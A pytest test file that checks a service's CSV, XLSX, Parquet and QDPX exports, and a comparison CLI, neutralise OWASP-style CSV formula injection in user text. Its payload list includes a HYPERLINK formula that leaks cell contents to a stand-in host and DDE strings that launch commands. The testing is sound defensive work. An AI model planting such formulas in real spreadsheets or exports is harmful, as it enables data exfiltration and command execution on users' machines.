"""User text that starts like a spreadsheet formula is exported as text (OWASP "CSV
Injection"): in CSV with a leading apostrophe, in XLSX as a quote-prefixed string cell
(no ``<f>`` element anywhere), in Parquet and QDPX exactly as typed.

Every leading character OWASP names is tried in every kind of user text an export holds:
note, file name, region, event, group, question, theme name and keywords.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from fastapi.testclient import TestClient
from lxml import etree
from openpyxl import load_workbook
from typer.testing import CliRunner

from service.api.routes import exports
from service.commands import CommandApp
from service.commands.compare import compare as compare_command
from service.config import Settings
from service.export.qdpx_import import read_qdpx
from shared_rules.spreadsheet import csv_text, looks_like_formula
from tests.factories import (
    ThemeSpec,
    add_document,
    add_project,
    add_run,
    database,
    include_routers,
)

# One payload per leading character (=, +, -, @, tab, CR) and whitespace before one.
PAYLOADS = {
    "=": '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+2",
    "CR": "\r=1+2",
    "space then =": "  =1+2",
    "tab then @": "\t@SUM(1)",
    "no-break space then +": "\u00a0+1",
}
HARMLESS = ["Yhteistyö = voimaa", "Kuopio-Iisalmi", "e-mail @ kunta"]
SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def test_each_leading_character_is_recognised() -> None:
    for name, payload in PAYLOADS.items():
        assert looks_like_formula(payload), name
        assert csv_text(payload) == "'" + payload
    for text in HARMLESS:
        assert not looks_like_formula(text) and csv_text(text) == text
    assert csv_text(-3) == -3 and csv_text(None) is None  # numbers are not text


def _hostile_project(url: str) -> dict[str, str]:
    """A project whose every user text is a payload; returns note text -> theme name."""
    with database(url) as db:
        project_id = add_project(db, "kaava")
        placement: dict[int, int | None] = {}
        themes: dict[int, ThemeSpec] = {}
        texts: dict[str, str] = {}
        for key, payload in enumerate(PAYLOADS.values(), start=1):
            note = f"{payload} muistiinpano {key}"
            (note_id,) = add_document(
                db,
                project_id,
                [note],
                region=payload,
                filename=f"{payload}.txt",
                event=payload,
                group=payload,
                question=payload,
            )
            themes[key] = ThemeSpec(f"{payload} teema {key}", keywords=(payload, "hanke"))
            placement[note_id] = key
            texts[note] = themes[key].name
        add_run(db, project_id, themes, placement)
    return texts


@pytest.fixture
def api(client: TestClient) -> TestClient:
    return include_routers(client, exports.router)


def test_csv_export_neutralises_every_leading_character(
    api: TestClient, settings: Settings
) -> None:
    notes = _hostile_project(settings.resolved_database_url)
    answer = api.get("/projects/kaava/export?format=csv")
    assert answer.status_code == 200
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column, cell in row.items():
            assert not looks_like_formula(cell), (column, cell)
        note = row["text"][1:]  # the apostrophe, then the note exactly
        assert note in notes, row["text"]
        payload = note.split(" muistiinpano ")[0]
        for column in ("document", "region", "event", "group", "question"):
            shown = row[column]
            assert shown.startswith("'") and payload in shown, (column, shown)
        assert row["theme_name"] == "'" + notes[note]


def test_xlsx_export_has_no_formula_cell_and_keeps_text_exact(
    api: TestClient, settings: Settings
) -> None:
    notes = _hostile_project(settings.resolved_database_url)
    answer = api.get("/projects/kaava/export?format=xlsx")
    assert answer.status_code == 200
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) == 3
        for sheet in sheets:
            root = etree.fromstring(archive.read(sheet))
            assert root.findall(f".//{SHEET_NS}f") == [], sheet
    workbook = load_workbook(io.BytesIO(answer.content))
    rows = list(workbook["notes"].iter_rows(min_row=2))
    assert len(rows) == len(PAYLOADS)
    header = [c.value for c in next(workbook["notes"].iter_rows(max_row=1))]
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        text = cells["text"]
        assert text.value in notes and text.data_type == "s" and text.quotePrefix
        payload = str(text.value).split(" muistiinpano ")[0]
        for column in ("region", "event", "group", "question"):
            assert cells[column].value == payload and cells[column].quotePrefix, column
        assert cells["document"].value == f"{payload}.txt"
        assert cells["theme_name"].value == notes[str(text.value)]
    codebook = [[c.value for c in row] for row in workbook["themes"].iter_rows(min_row=2)]
    assert {row[1] for row in codebook} == set(notes.values())
    assert all(str(row[2]).endswith(", hanke") for row in codebook)
    region_table = [c.value for c in next(workbook["region_theme"].iter_rows(max_row=1))]
    assert set(region_table[1:-1]) >= set(notes.values())  # theme names as column heads
    workbook.close()


def test_parquet_and_qdpx_keep_the_text_exact(api: TestClient, settings: Settings) -> None:
    notes = _hostile_project(settings.resolved_database_url)
    parquet = api.get("/projects/kaava/export?format=parquet")
    table = pq.read_table(io.BytesIO(parquet.content)).to_pylist()
    assert {row["text"] for row in table} == set(notes)
    assert {row["theme_name"] for row in table} == set(notes.values())
    assert {row["region"] for row in table} == set(PAYLOADS.values())
    qdpx = read_qdpx(api.get("/projects/kaava/export?format=qdpx").content)
    assert set(qdpx.codes.values()) >= set(notes.values())
    assert all(any(note in s.text for s in qdpx.sources) for note in notes)


def test_compare_command_csv_neutralises_region_and_theme_names(tmp_path: Path) -> None:
    folder = tmp_path
    env = {"TEEMA_DATA_DIR": str(folder), "TEEMA_DATABASE_URL": ""}
    _hostile_project(f"sqlite:///{folder / 'teemakartta.db'}")
    cli = CommandApp()  # as service.cli builds its app: user errors answered once
    cli.command()(compare_command)
    cli.command("noop")(lambda: None)
    answer = CliRunner().invoke(cli, ["compare", "--project", "kaava", "--format", "csv"], env=env)
    assert answer.exit_code == 0, answer.output
    rows = list(csv.DictReader(io.StringIO(answer.output)))
    assert rows and all(not looks_like_formula(v) for row in rows for v in row.values())
    regions = {row["group"] for row in rows}
    assert regions == {"'" + payload for payload in PAYLOADS.values()}
    as_json = CliRunner().invoke(
        cli, ["compare", "--project", "kaava", "--format", "json"], env=env
    )
    assert {r["group"] for r in json.loads(as_json.output)["rows"]} == set(PAYLOADS.values())
